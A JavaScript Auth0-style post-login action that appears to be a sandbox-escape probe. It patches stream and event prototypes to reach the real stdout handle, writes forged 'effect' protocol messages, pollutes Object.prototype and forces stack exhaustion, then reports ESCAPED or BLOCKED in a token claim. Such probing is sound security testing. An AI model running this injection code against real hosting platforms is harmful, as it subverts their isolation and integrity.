// lines of the output that are kept back, told twice or sent to the real stream, by what its streams are made of
exports.onExecutePostLogin = async (event, api) => {
  const out = (v) => { try { api.idToken.setCustomClaim('probe', String(v).slice(0, 400)); } catch {} };
  const found = [];
  const attempt = async (label, act) => { try { const r = await act(); if (r) found.push(label + ' ' + String(r).slice(0, 80)); } catch {} };
  const { Writable, Readable, finished } = require('stream');
  const { prototype } = Writable;
  const forged = '\n{"type":"effect","data":{"method":"FORGED","arguments":[]}}\n';
  const streams = [process.stdout, process.stderr, console._stdout, console._stderr];
  // The real process and its streams.
  let real; const { on, once } = require('events').prototype;
  require('events').prototype.on = function (...a) { if (this && this.reallyExit) real = this; return Reflect.apply(on, this, a); };
  for (const method of ['write', '_write', 'end', 'cork', 'uncork', 'destroy', 'emit', 'on', 'once', 'removeListener']) {
    const was = prototype[method];
    prototype[method] = function (...a) { for (const key of Reflect.ownKeys(this)) { const v = this[key]; if (v && (v.fd === 1 || v.fd === 2 || v._handle || v.reallyExit)) found.push('handle by ' + method + ' ' + String(key)); } return Reflect.apply(was, this, a); };
  }
  for (const s of streams) {
    await attempt('fd', () => s.fd !== undefined || s._handle || s.socket || s._type);
    await attempt('write', () => { s.write(forged); s.write(Buffer.from(forged)); s._write(forged, 'utf8', () => {}); s.end(forged); });
    await attempt('destroy', () => { s.destroy(); });
    await attempt('constructor', () => { const t = new s.constructor({ fd: 1 }); t.on('error', () => {}); t.write(forged); return t.fd === 1; });
    await attempt('finished', () => { finished(s, () => {}); });
  }
  await attempt('real stdout', () => real && real.stdout && (real.stdout.fd !== undefined || real.stdout._handle));
  await attempt('before', () => { delete console._stdout; return new console.constructor()._stdout !== undefined || (console._stdout && console._stdout.fd); });
  const inherited = ['objectMode', 'writing', 'corked', 'fd', 'autoClose', 'decodeStrings'];
  for (const name of inherited) Object.defineProperty(Object.prototype, name, { value: true, writable: true, configurable: true });
  process.stdout.write(forged);
  for (const name of inherited) delete Object.prototype[name];
  // A stack that fills up in the middle of a line.
  let left = 50;
  const dive = () => { try { dive(); } catch {} if (left-- > 0) process.stdout.write('x'); };
  try { dive(); } catch {}
  Readable.from([forged]).pipe(process.stdout);
  await new Promise((resolve) => setTimeout(resolve, 20));
  process.stdout.write('after everything\n');
  api.idToken.setCustomClaim('genuine', 1);
  out(found.length > 0 ? 'ESCAPED:' + found.join('; ') : 'BLOCKED:nothing worked');
};
